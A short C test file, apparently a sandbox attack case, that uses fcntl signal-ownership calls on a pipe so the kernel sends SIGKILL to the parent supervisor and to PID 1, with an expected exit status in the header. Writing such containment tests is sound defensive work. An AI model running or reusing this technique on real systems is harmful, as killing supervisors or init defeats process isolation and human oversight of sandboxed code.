// ends: exited 0
// Lets the kernel send signals in its name: the "owner" of a pipe gets any signal when data
// arrives, whoever that is. SPDX-License-Identifier: MIT
#include "attack.h"
static void aim(pid_t victim) {
    int ends[2];
    if (pipe(ends) != 0) return;
    fcntl(ends[0], F_SETSIG, SIGKILL);
    fcntl(ends[0], F_SETOWN, victim);
    struct f_owner_ex owner = {F_OWNER_PID, victim};
    fcntl(ends[0], F_SETOWN_EX, &owner);
    fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (write(ends[1], "x", 1) != 1) return;
    close(ends[0]);
    close(ends[1]);
}
int main(void) {
    // Init inside a PID namespace cannot be killed from within; without one, the parent is the
    // supervisor's hand.
    aim(getppid() > 0 ? getppid() : 1);
    aim(1);
    sleep_ms(50);
    return held();
}
